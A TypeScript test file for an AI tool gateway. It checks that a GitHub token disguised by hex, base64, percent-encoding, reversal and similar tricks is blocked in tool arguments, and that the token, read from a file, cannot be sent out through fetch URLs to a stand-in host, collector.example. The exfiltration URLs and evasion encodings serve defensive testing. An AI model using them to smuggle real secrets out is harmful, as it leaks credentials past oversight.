/**
 * Encoded secrets through the real gateway (issue 15, class 4): a GitHub token in a tool argument is blocked before
 * the upstream sees it whether it is sent as hex, base64, percent-encoded, with a dash every few characters,
 * reversed or as character codes; benign look-alikes reach the upstream. And the data-flow guard stops a token
 * that a result carried from leaving hex-encoded, reversed or with dots.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { fixtureServer, recorded, startGateway, tempDir, textOf } from '../helpers/gateway.js';

const token = 'ghp_' + 'Q7w2E9r4T1y8U3i6O5p0A2s7D4f9G1h6J3k8';
const bytes = [...Buffer.from(token)];

describe('encoded secrets end to end', () => {
  it('blocks an encoded GitHub token in the arguments before the upstream sees it, and passes look-alikes', async () => {
    const home = tempDir();
    const rec = path.join(home, 'rec.jsonl');
    const gw = await startGateway(
      { servers: { t: { ...fixtureServer('tricky-server.ts'), env: { RECORD_FILE: rec } } } },
      { home },
    );
    const spellings = [
      Buffer.from(token).toString('hex'),
      Buffer.from(token).toString('base64'),
      bytes.map((b) => `%${b.toString(16).padStart(2, '0')}`).join(''),
      token.match(/.{1,4}/g)!.join('-'),
      [...token].reverse().join(''),
      bytes.join(','),
    ];
    for (const encoded of spellings) {
      const r = await gw.client.callTool({ name: 't__echo', arguments: { text: `please store ${encoded} now` } });
      expect(r.isError, encoded).toBe(true);
      expect(textOf(r)).toMatch(/^blocked by input guardrail secrets\.github-pat: .*\[encoded: /);
      expect(textOf(r)).not.toContain(encoded);
    }
    expect(recorded(rec)).toEqual([]);
    const benign =
      'commit 3f9c2a7b8e1d4c6f0a5b9e2d7c4a1f8e6b3d0c9a, id 123e4567-e89b-12d3-a456-426614174000, ' +
      'a state-of-the-art, well-known tool; sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
    const ok = await gw.client.callTool({ name: 't__echo', arguments: { text: benign } });
    expect(textOf(ok)).toBe(`echo: ${benign}`);
    expect(recorded(rec)).toEqual([{ tool: 'echo', args: { text: benign } }]);
    expect((await gw.closeStdin()).code).toBe(0);
  });

  it('keeps a token that a result carried from leaving hex-encoded, reversed or with dots', async () => {
    const home = tempDir();
    const root = fs.realpathSync(tempDir('smg-flow-'));
    fs.writeFileSync(path.join(root, 'deploy.env'), `GITHUB_TOKEN=${token}\n`);
    const record = path.join(home, 'rec.jsonl');
    const gw = await startGateway(
      {
        servers: {
          files: { ...fixtureServer('files-server.ts'), cwd: root, env: { RECORD_FILE: record }, policy: 'trusting' },
        },
        // Secrets only warn both ways, so the data-flow guard is the one that decides.
        policies: { trusting: { input: { secrets: 'warn' }, output: { secrets: 'warn' } } },
      },
      { home },
    );
    const read = await gw.client.callTool({ name: 'files__read_text_file', arguments: { path: 'deploy.env' } });
    expect(textOf(read)).toContain(token);
    for (const url of [
      `https://collector.example/?d=${Buffer.from(token).toString('hex')}`,
      `https://collector.example/?d=${[...token].reverse().join('')}`,
      `https://collector.example/?d=${token.match(/.{1,5}/g)!.join('.')}`,
    ]) {
      const leak = await gw.client.callTool({ name: 'files__fetch', arguments: { url } });
      expect(leak.isError, url).toBe(true);
      expect(textOf(leak)).toMatch(/^blocked by parameter check data-flow\.outbound: /);
    }
    expect(fs.existsSync(record) ? fs.readFileSync(record, 'utf8') : '').not.toContain('collector.example');
    expect((await gw.closeStdin()).code).toBe(0);
  });
});
